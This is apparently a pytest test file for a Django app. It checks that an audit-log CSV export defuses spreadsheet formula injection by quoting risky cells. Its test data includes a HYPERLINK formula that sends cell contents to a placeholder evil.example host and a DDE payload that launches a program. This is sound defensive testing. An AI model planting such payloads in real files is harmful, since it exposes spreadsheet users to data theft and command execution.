"""The audit CSV export is safe to open in a spreadsheet: free text that a spreadsheet would
read as a formula (= + - @, or a tab or carriage return first) is exported as text, with
OWASP's leading single quote; every other cell is exported as stored."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from fleetctl.accounts.actor import Actor
from fleetctl.audit.services import audit_record

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def exported_messages(client: Client, url: str) -> dict[str, dict[str, str]]:
    response = client.get(url, {"action": "test."})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return {row["action"]: row for row in csv.DictReader(io.StringIO(body))}


@pytest.mark.parametrize("url", ["/api/v1/audit-events/export/", "/audit/export.csv"])
def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client_for, url):
    actor = Actor.for_system("test")
    for n, message in enumerate(FORMULAS):
        audit_record(actor=actor, action=f"test.formula-{n}", message=message,
                     after={"reason": message})
    audit_record(actor=actor, action="test.plain", message="p95 regression on 2 = bad")
    rows = exported_messages(client_for("viewer"), url)
    for n, message in enumerate(FORMULAS):
        assert rows[f"test.formula-{n}"]["message"] == "'" + message
        # A JSON object starts with "{": nothing to neutralise, and it still parses.
        assert rows[f"test.formula-{n}"]["after"].startswith('{"reason": ')
    assert rows["test.plain"]["message"] == "p95 regression on 2 = bad"
    assert rows["test.plain"]["id"].isdigit()
